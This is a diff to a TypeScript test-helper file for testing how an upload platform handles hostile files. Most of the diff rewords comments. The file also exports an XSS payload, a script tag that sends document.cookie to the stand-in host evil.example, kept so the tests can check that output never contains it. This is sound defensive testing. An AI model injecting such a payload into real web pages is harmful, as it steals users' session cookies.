@@ -3,13 +3,13 @@ import type { Upload } from '../../platform/uploads/recognise.ts'
 export type HostileUpload = Upload & {
   label: string
   as: 'sound' | 'picture'
-  /** `either`: damage that leaves something to hear or see; then only time, memory and cleanliness are asked for. */
+  /** `either`: damage that leaves something to hear or see. Then only time, memory and cleanliness are checked. */
   expected: 'accepted' | 'refused' | 'either'
 }
 
 export type Sample = Upload & { label: string }
 
-/** The same numbers on every run. */
+/** Returns the same numbers on every run. */
 export function seededRandom(seed: number): () => number {
   let state = seed
   return () => {
@@ -39,5 +39,5 @@ export function uint32be(value: number): Buffer {
   return bytes
 }
 
-/** What a page that is tricked into showing an upload would run; must be nowhere in what we make of it. */
+/** A script that a page would run if it were tricked into showing an upload. Our output must never contain it. */
 export const payload = '<script>fetch("//evil.example/"+document.cookie)</script>'
